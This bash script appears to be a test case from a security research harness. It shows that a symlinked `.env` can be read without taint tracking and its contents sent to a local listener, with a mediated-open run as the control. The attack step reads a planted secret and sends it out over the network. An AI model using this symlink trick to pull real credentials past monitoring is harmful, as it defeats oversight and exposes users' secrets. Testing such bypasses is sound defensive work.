#!/bin/bash
# The user's workspace has `.env` as a symlink to a file with an ordinary name
# (`.env -> config/dev-settings`, a common layout). Discovery never marks a
# symlink ("what it names is decided by its own path"), and the kernel-decided
# open of `.env` follows it to an unmarked inode: the secret is read by the name
# `.env` without any taint. Control: the same run with mediated opens.
set -u; . "$(dirname "$0")/../common.sh"
D=$R4/symlinked-secret-name; W=$D/ws H=$D/home; rm -rf $W $H; mkdir -p $W/config $H
gcc -O1 -I$R4 -o $W/readsend $R4/readsend.c
echo "SECRET-ENV-symlink-91c2" > $W/config/dev-settings; ln -s config/dev-settings $W/.env
listen 127.0.0.1 $D/out.txt
echo "== control: mediated opens";         runmed $H $W ./readsend 127.0.0.1 plain .env
echo "== attack: kernel-decided opens";    run $H $W ./readsend 127.0.0.1 plain .env
verdict $D/out.txt SECRET-ENV
